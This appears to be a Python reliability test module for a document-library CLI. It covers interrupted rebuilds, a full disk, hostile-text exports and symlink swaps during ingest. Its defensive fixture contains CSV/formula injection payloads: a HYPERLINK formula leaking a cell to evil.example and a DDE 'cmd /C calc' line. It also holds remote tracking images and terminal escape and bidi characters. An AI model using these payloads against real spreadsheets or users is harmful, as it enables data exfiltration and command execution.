"""Issue 50's large runs for ``benchmarks/product/reliability.py``: ``doctor --rebuild`` interrupted (SIGINT and
SIGKILL) at
random moments, rebuilds started at once, a rebuild on a full file system (a small tmpfs mounted in a private mount
namespace: ``unshare --mount``, root in this sandbox), exports of hostile text, and files swapped for a symlink to a
secret at random moments of an ingest. Each checks that every document and conversation is still there. Real CLI in
subprocesses, real parse workers, real SQLite.

Run inside the namespace by the full-disk case itself: ``python -m tests.reliability.issue50 full-disk DIR DB``.
"""

from __future__ import annotations

import csv
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

from tests.reliability.scenarios import SHELFWISE, check_library
from tests.reliability.test_library_guards import interruptible

SAMPLE = Path(__file__).resolve().parents[2] / "resources" / "sample"
SECRET = "The vault code is zanzibar-4471."


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONIOENCODING": "utf-8"}


def cli(db: Path, *args: str, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    return subprocess.run([SHELFWISE, "--db", str(db), *args], capture_output=True, text=True, env=_env(),
                          timeout=timeout, errors="replace")


def start(db: Path, *args: str) -> subprocess.Popen[str]:
    return subprocess.Popen([SHELFWISE, "--db", str(db), *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env=_env(), errors="replace", preexec_fn=interruptible)


def library(base: Path) -> Path:
    """The sample (6 files) and a second collection, with 3 stored conversations that cite a document."""
    from tests.reliability.test_library_guards import library_with_conversations

    base.mkdir(parents=True, exist_ok=True)
    return library_with_conversations(base)


def contents(db: Path) -> tuple[list[str], list[tuple[int, str, int]]]:
    """(the documents' paths, the conversations as (id, title, turns)), read with the real store."""
    from shelfwise.core.conversation.storage import ConversationStore
    from shelfwise.core.store.db import Store

    with Store(db) as store:
        docs = sorted(d.path for d in store.documents())
        convs = ConversationStore(store)
        return docs, [(s.id, s.title, s.turns) for s in convs.list()]


def _building(db: Path) -> bool:
    return any(p.name.startswith(f"{db.name}.rebuilding-") for p in db.parent.iterdir())


REBUILD = ("doctor", "--rebuild", "--force", "--yes", "--no-index")


# --------------------------------------------------------------------------- interrupted rebuilds
def rebuild_kills(work: Path, n: int, seed: int = 50) -> dict[str, Any]:
    """``doctor --rebuild`` interrupted ``n`` times (SIGINT and SIGKILL alternately) at a moment drawn uniformly
    from its measured length; after each, every document and conversation must be there and the library sound."""
    db = library(work / "rebuild-kills")
    before = contents(db)
    t0 = time.monotonic()
    full = cli(db, *REBUILD)
    length = time.monotonic() - t0
    rng = random.Random(seed)
    runs = []
    for i in range(n):
        sig = signal.SIGINT if i % 2 == 0 else signal.SIGKILL
        at = rng.uniform(0.0, length)
        proc = start(db, *REBUILD)
        time.sleep(at)
        running = proc.poll() is None
        building = _building(db)
        if running:
            proc.send_signal(sig)
        _out, err = proc.communicate(timeout=600)
        after = contents(db)
        check = check_library(db)
        doctor = cli(db, "doctor")
        runs.append({
            "signal": sig.name, "at_s": round(at, 2), "landed_in_run": running, "while_building": building,
            "exit": proc.returncode, "kept": after == before, "sound": check.sound,
            "said": (err.strip().splitlines() or [""])[-1][:160] if sig == signal.SIGINT and running else "",
            "doctor_healthy": doctor.returncode == 0 and "healthy" in doctor.stdout,
            "traceback": "Traceback" in err or "Traceback" in doctor.stderr,
        })
    leftovers = [p.name for p in db.parent.iterdir() if ".rebuilding-" in p.name]
    clean = full.returncode == 0 and not leftovers and all(
        r["kept"] and r["sound"] and r["doctor_healthy"] and not r["traceback"] for r in runs)
    return {"clean": clean, "kills": len(runs), "landed": sum(r["landed_in_run"] for r in runs),
            "while_building": sum(r["while_building"] for r in runs), "rebuild_seconds": round(length, 1),
            "documents": len(before[0]), "conversations": len(before[1]),
            "all_kept": sum(r["kept"] for r in runs), "leftovers": leftovers, "runs": runs,
            "detail": f"{sum(r['kept'] for r in runs)}/{len(runs)} kept every document and conversation",
            "peak_rss_mb": None}


def rebuilds_at_once(work: Path, offsets: tuple[float, ...] = (0.0, 0.5, 2.0)) -> dict[str, Any]:
    """Two ``doctor --rebuild --force --yes`` started ``offset`` seconds apart: one rebuilds, the other is refused
    with a message; every document and conversation is there after."""
    db = library(work / "rebuilds-at-once")
    before = contents(db)
    runs = []
    for offset in offsets:
        first = start(db, *REBUILD)
        time.sleep(offset)
        second = start(db, *REBUILD)
        (_o1, e1), (_o2, e2) = first.communicate(timeout=600), second.communicate(timeout=600)
        codes = sorted([first.returncode, second.returncode])
        refused = [e for e, p in ((e1, first), (e2, second)) if p.returncode == 1]
        runs.append({"offset_s": offset, "exits": [first.returncode, second.returncode],
                     "one_rebuilt_one_refused": codes == [0, 1] and bool(refused)
                     and "another rebuild of this library is running" in refused[0],
                     "kept": contents(db) == before, "sound": check_library(db).sound})
    clean = all(r["one_rebuilt_one_refused"] and r["kept"] and r["sound"] for r in runs)
    return {"clean": clean, "runs": runs, "detail": [(r["offset_s"], r["exits"], r["kept"]) for r in runs],
            "peak_rss_mb": None}


# --------------------------------------------------------------------------- a full file system
def full_disk(work: Path) -> dict[str, Any]:
    """The library on a small tmpfs in a private mount namespace: (a) too little room for a second copy: refused
    before anything changes; (b) room at the start, then the file system filled (``dd``) while the new library is
    built: the rebuild fails, the old library stays; after space is freed, every document and conversation is
    there and a rebuild succeeds."""
    base = work / "full-disk"
    db = library(base)
    mount = base / "mnt"
    mount.mkdir()
    cmd = ["unshare", "--mount", "--propagation", "private", sys.executable, "-m", "tests.reliability.issue50",
           "full-disk", str(mount), str(db)]
    r = subprocess.run(cmd, capture_output=True, text=True, env=_env(), timeout=1800,
                       cwd=Path(__file__).resolve().parents[2])
    try:
        out = json.loads(r.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return {"clean": False, "detail": f"exit {r.returncode}: {r.stderr[-600:]}", "peak_rss_mb": None}
    out["peak_rss_mb"] = None
    return out


def _full_disk_inside(mount: Path, source_db: Path) -> dict[str, Any]:
    """Runs in the namespace (root): mounts the tmpfs, copies the library onto it and runs both cases."""
    size = source_db.stat().st_size
    before = contents(source_db)
    out: dict[str, Any] = {"library_mb": round(size / 2**20, 2)}

    def mounted(mb: int) -> Path:
        subprocess.run(["umount", str(mount)], capture_output=True)
        subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={mb}m", "tmpfs", str(mount)], check=True)
        db = mount / "lib.db"
        shutil.copy2(source_db, db)
        return db

    # (a) room for the library but not for a second copy
    db = mounted(int(size / 2**20) + 2)
    r = cli(db, *REBUILD)
    out["refused"] = {"exit": r.returncode, "said": r.stderr.strip()[-600:],
                      "kept": contents(db) == before, "sound": check_library(db).sound}
    # (b) room at the start; the file system filled while the new library is built
    db = mounted(int(size / 2**20) + 40)
    fill = mount / "fill"
    proc = start(db, *REBUILD)
    deadline = time.monotonic() + 300
    while not _building(db) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    filled_while_building = _building(db)
    subprocess.run(["dd", "if=/dev/zero", f"of={fill}", "bs=1M"], capture_output=True)
    _o, err = proc.communicate(timeout=600)
    kept_full = contents(db) == before
    fill.unlink()
    doctor = cli(db, "doctor")
    again = cli(db, *REBUILD)
    out["filled"] = {"filled_while_building": filled_while_building, "exit": proc.returncode,
                     "said": err.strip()[-600:], "kept_while_full": kept_full,
                     "doctor_after": doctor.returncode, "doctor_healthy": "healthy" in doctor.stdout,
                     "rebuild_after_exit": again.returncode, "kept_after": contents(db) == before,
                     "sound": check_library(db).sound}
    subprocess.run(["umount", str(mount)], capture_output=True)
    a, b = out["refused"], out["filled"]
    out["clean"] = (a["exit"] == 1 and "not enough free space" in a["said"] and a["kept"] and a["sound"]
                    and b["filled_while_building"] and b["exit"] == 1 and "The library is as it was" in b["said"]
                    and b["kept_while_full"] and b["doctor_healthy"] and b["rebuild_after_exit"] == 0
                    and b["kept_after"] and b["sound"])
    out["detail"] = f"refused: exit {a['exit']}; filled: exit {b['exit']}, kept {b['kept_while_full']}"
    return out


# --------------------------------------------------------------------------- exports
FLAG = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
HOSTILE_MD = (f'# =HYPERLINK("http://evil.example/?leak="&A1,"click")\n\nA flag {FLAG}, a family {FAMILY}, '
              "co\u00adoperate.\n\n## @SUM(1+1)\n\n+1 with a bell \x07, an escape \x1b]0;title\x07 and \u202eRLO.\n\n"
              "## -cmd|' /C calc'!A0\n\n![x](http://evil.example/p.png) and <img src=http://evil.example/a.png>\n\n"
              "## Plain\n\n" + "Ordinary sentences about the office kitchen and its opening hours. " * 20 + "\n")


def exports(work: Path) -> dict[str, Any]:
    """A document of hostile text exported every way: JSON on a pipe is what json.dumps writes (the tag sequence,
    ZWJ and soft hyphen kept), CSV read back with the csv module has no cell a spreadsheet would run and no raw
    control or bidi character, a conversation's Markdown export (``chat /export``) has no raw control character,
    remote image or raw HTML, and failed writes are one line that leaves the old file."""
    from shelfwise.core.conversation.model import Reading, Turn, TurnCitation
    from shelfwise.core.conversation.storage import ConversationStore
    from shelfwise.core.store.db import Store
    from shelfwise.ingest.model import Location

    base = work / "exports"
    docs = base / "docs"
    docs.mkdir(parents=True)
    (docs / "hostile.md").write_text(HOSTILE_MD, encoding="utf-8")
    db = base / "lib.db"
    checks: dict[str, bool] = {}
    checks["ingest"] = cli(db, "ingest", "--no-index", str(docs)).returncode == 0
    piped = cli(db, "export")
    to_file = cli(db, "export", "--out", str(base / "lib.json"))
    data = json.loads(piped.stdout)
    text = json.dumps(data, ensure_ascii=False)
    checks["json_valid_and_same_as_file"] = data == json.loads((base / "lib.json").read_text(encoding="utf-8")) \
        and to_file.returncode == 0
    checks["json_is_json_dumps"] = piped.stdout == json.dumps(data, ensure_ascii=False, indent=2) + "\n"
    checks["json_keeps_flag_zwj_soft_hyphen"] = FLAG in text and FAMILY in text and "co\u00adoperate" in text
    csv_dir = base / "csv"
    checks["csv_written"] = cli(db, "export", "--format", "csv", "--out", str(csv_dir)).returncode == 0
    cells = [c for name in ("documents", "sections", "passages")
             for row in csv.reader((csv_dir / f"{name}.csv").open(encoding="utf-8", newline="")) for c in row]
    checks["csv_no_formula_cell"] = bool(cells) and not any(c.startswith(("=", "+", "-", "@", "\t", "\r"))
                                                            for c in cells)
    raw = "".join(cells)
    checks["csv_no_raw_control_or_bidi"] = not any(ch in raw for ch in "\x07\x1b\u202e")
    with Store(db) as store:
        doc = store.documents()[0]
        convs = ConversationStore(store)
        conv = convs.create("default", "hostile \u202e title")
        convs.add_turn(conv, Turn(position=0, question="What \x1b[31mis\x1b[0m here?",
                                  reading=Reading(mode="first", query="q", question="q"),
                                  answer="See ![x](http://evil.example/t.gif) <img src=http://e/a.png> \x07",
                                  found=True, citations=[TurnCitation(1, 1, doc.id, doc.path, "t", ["h"],
                                                                      Location(), "quote \x1b]0;x\x07")]))
        cid = conv.id
    md_path = base / "conv.md"
    chat = subprocess.run([SHELFWISE, "--db", str(db), "chat", "--conversation", str(cid)],
                          input=f"/export {md_path}\n/quit\n", capture_output=True, text=True, env=_env(),
                          timeout=300)
    md = md_path.read_text(encoding="utf-8") if md_path.exists() else ""
    checks["chat_export_written"] = bool(md) and "Traceback" not in chat.stderr
    checks["chat_export_inert"] = bool(md) and not any(ch in md for ch in "\x07\x1b\u202e") \
        and "<img" not in md and "![" not in md.replace("\\![", "")
    old = base / "old.json"
    old.write_text("old\n")
    full = cli(db, "export", "--out", "/dev/full")
    under = cli(db, "export", "--out", str(old / "x.json"))
    on_file = cli(db, "export", "--format", "csv", "--out", str(old))
    checks["dev_full_one_line"] = full.returncode == 1 and len(full.stderr.strip().splitlines()) == 1 \
        and "No space left on device" in full.stderr
    checks["under_a_file_one_line"] = under.returncode == 1 and len(under.stderr.strip().splitlines()) == 1
    checks["csv_on_a_file_said"] = on_file.returncode == 2 and "is a file" in on_file.stderr
    checks["old_file_kept"] = old.read_text() == "old\n"
    return {"clean": all(checks.values()), "checks": checks,
            "detail": [k for k, v in checks.items() if not v] or "all checks hold", "peak_rss_mb": None}


# --------------------------------------------------------------------------- the symlink swap
def symlink_swaps(work: Path, n: int = 10, seed: int = 50) -> dict[str, Any]:
    """``n`` ingests of a folder during which one file is swapped for a symlink to a secret outside the folder at
    a random moment; the secret must never be in the library, and every other document must be."""
    rng = random.Random(seed)
    base = work / "swaps"
    secret = base / "outside" / "secret.md"
    secret.parent.mkdir(parents=True)
    secret.write_text(f"# Secret\n\n{SECRET}\n")
    runs = []
    for i in range(n):
        folder = base / f"run{i}" / "files"
        shutil.copytree(SAMPLE, folder)
        target = folder / "facilities.md"
        db = base / f"run{i}" / "lib.db"
        at = rng.uniform(0.0, 6.0)
        proc = start(db, "ingest", "--no-index", str(folder))

        def swap(target: Path = target, at: float = at) -> None:
            time.sleep(at)
            target.unlink()
            target.symlink_to(secret)

        t = threading.Thread(target=swap)
        t.start()
        out, err = proc.communicate(timeout=600)
        t.join()
        found = cli(db, "search", "zanzibar", "--json")
        docs, _ = contents(db)
        leaked = "zanzibar" in found.stdout
        others = sorted(str(p) for p in folder.iterdir() if p.name != "facilities.md")
        line = next((ln for ln in (out + err).splitlines() if "facilities.md" in ln), "")
        runs.append({"at_s": round(at, 2), "leaked": leaked, "others_kept": all(o in docs for o in others),
                     "said": line.strip()[:200], "exit": proc.returncode})
    clean = all(not r["leaked"] and r["others_kept"] for r in runs)
    return {"clean": clean, "swaps": len(runs), "leaked": sum(r["leaked"] for r in runs), "runs": runs,
            "detail": f"{sum(not r['leaked'] for r in runs)}/{len(runs)} kept the secret out", "peak_rss_mb": None}


def main(argv: list[str]) -> int:
    if argv[:1] == ["full-disk"]:
        print(json.dumps(_full_disk_inside(Path(argv[1]), Path(argv[2])), default=str))
        return 0
    work = Path(tempfile.mkdtemp(prefix="shelfwise-issue50-"))
    print(json.dumps({"exports": exports(work)}, indent=1, default=str))
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
